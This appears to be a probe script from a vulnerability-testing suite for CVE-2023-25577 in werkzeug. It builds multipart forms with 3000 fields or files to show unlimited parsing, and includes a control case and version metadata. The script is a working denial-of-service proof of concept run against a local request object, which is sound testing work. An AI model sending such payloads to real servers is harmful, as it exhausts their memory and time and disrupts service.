# /// vertice-probe
# id = "PYSEC-2023-58"
# aliases = ["CVE-2023-25577", "GHSA-xg9f-g7g7-2323"]
# package = "werkzeug"
# summary = "A multipart form may have any number of parts, so a modest upload takes much time and memory."
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:H" }]
# cwe = ["CWE-400", "CWE-770"]
# kind = "dos"
# symbols = [
#   "werkzeug.Request",
#   "werkzeug.wrappers.Request",
#   "werkzeug.wrappers.Request.form",
#   "werkzeug.wrappers.Request.files",
#   "flask.request",
#   "flask.Request",
# ]
#
# [[affected]]
# package = "werkzeug"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "0" }, { fixed = "2.2.3" }] }]
#
# [cases]
# attack = "a form of 3000 fields is read without a limit"
# [cases.variants]
# files = "a form of 3000 empty files opens that many files"
# [cases.controls]
# form = "an ordinary form with a field and a file is read"
#
# [test]
# vulnerable = "2.2.2"
# fixed = "2.2.3"
# ///
"""CVE-2023-25577: unlimited parts of a multipart form."""

import io
import json
import sys
import warnings

warnings.simplefilter("ignore")
PARTS = 3000


def request(parts):
    """A POST of (name, file name or None, content)."""
    from werkzeug.wrappers import Request

    body = b""
    for name, filename, content in parts:
        extra = '; filename="%s"' % filename if filename else ""
        body += (
            ('--abc\r\nContent-Disposition: form-data; name="%s"%s\r\n\r\n' % (name, extra)).encode()
            + content
            + b"\r\n"
        )
    body += b"--abc--\r\n"
    return Request(
        {
            "REQUEST_METHOD": "POST",
            "CONTENT_TYPE": "multipart/form-data; boundary=abc",
            "CONTENT_LENGTH": str(len(body)),
            "wsgi.input": io.BytesIO(body),
        }
    )


def read_and_look(parts, read):
    from werkzeug.exceptions import RequestEntityTooLarge

    if len(read(request(parts[:10]))) != 10:
        return "error", "a form of ten parts was not read"
    try:
        count = len(read(request(parts)))
    except RequestEntityTooLarge as error:
        return "blocked", "RequestEntityTooLarge (%d) for %d parts, ten parts were read" % (error.code, PARTS)
    if count == PARTS:
        return "exploited", "all %d parts were read" % PARTS
    return "error", "%d of %d parts were read" % (count, PARTS)


def attack():
    return read_and_look([("f%d" % n, None, b"") for n in range(PARTS)], lambda made: made.form)


def files():
    return read_and_look([("f%d" % n, "x", b"") for n in range(PARTS)], lambda made: made.files)


def form():
    made = request([("name", None, b"Bob"), ("photo", "a.png", b"png data")])
    got = dict(made.form), made.files["photo"].filename, made.files["photo"].read()
    good = got == ({"name": "Bob"}, "a.png", b"png data")
    return ("works", "field and file read") if good else ("broken", repr(got))


CASES = {"attack": attack, "files": files, "form": form}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
